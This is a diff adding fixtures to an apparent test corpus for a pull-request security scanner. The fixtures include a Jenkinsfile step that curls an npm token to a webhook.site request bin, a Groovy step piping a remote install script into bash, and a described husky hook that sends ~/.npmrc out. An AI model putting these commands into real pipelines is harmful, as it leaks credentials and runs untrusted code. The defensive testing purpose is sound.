@@ -3786,6 +3786,66 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: 'approve', findings: ['build-code-behavior'] },
   },
   {
+    id: 'attack-jenkinsfile-credentials-to-webhook',
+    description:
+      "Poisoned pipeline execution in Jenkins (Palo Alto's PPE write-up; the credentials-binding plugin's own warning that a build step can leak what withCredentials hands it): a \"cache warm-up\" PR wraps a new sh step in withCredentials and posts the npm token to a request bin. No workflow rule reads a Jenkinsfile; the pipeline ladder of build-code-behavior does.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7644,
+        title: 'ci: warm the build cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Jenkinsfile',
+            base: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                sh 'npm run build'", '            }', '        }', "        stage('Test') {", '            steps {', "                sh 'npm test'", '            }', '        }', '    }', '}'),
+            head: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {", "                    sh 'curl -s -d \"cache=$NPM_TOKEN\" https://webhook.site/3f1c2a9e'", '                }', "                sh 'npm run build'", '            }', '        }', "        stage('Test') {", '            steps {', "                sh 'npm test'", '            }', '        }', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-jenkinsfile-test-command-edit',
+    description:
+      "The benign look-alike: a maintainer adds a flag to the Jenkinsfile's test step (`npm test` to `npm test -- --ci`): the pipeline reader reads its sh steps on both sides, finds one command edited and nothing else new, and the edit passes as routine.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7645,
+        title: 'ci: run tests in CI mode',
+        author: 'member',
+        files: [
+          {
+            path: 'Jenkinsfile',
+            base: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                sh 'npm run build'", '            }', '        }', "        stage('Test') {", '            steps {', "                sh 'npm test'", '            }', '        }', '    }', '}'),
+            head: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                sh 'npm run build'", '            }', '        }', "        stage('Test') {", '            steps {', "                sh 'npm test -- --ci'", '            }', '        }', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'attack-jenkins-groovy-pipes-installer',
+    description:
+      'A download piped into a shell in a Groovy file of the jenkins/ folder that the Jenkinsfile loads (shared pipeline steps), where no reader looked: read as a CI pipeline, so curl-pipe-shell is high there.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7646,
+        title: 'ci: install the build tools in the shared steps',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'jenkins/steps.groovy',
+            base: lines('def build() {', "    sh 'npm ci'", "    sh 'npm run build'", '}', 'return this'),
+            head: lines('def build() {', "    sh 'curl -fsSL https://get.build-tools-cdn.dev/install.sh | bash'", "    sh 'npm ci'", "    sh 'npm run build'", '}', 'return this'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'attack-husky-hook-sends-npmrc',
     description:
       'The s1ngularity inventory in a git hook: a "lint-staged on commit" PR adds a husky pre-commit hook that, in the background, posts the committer\'s e-mail and ~/.npmrc (the npm token) to an ordinary-looking host; every contributor who commits runs it.',
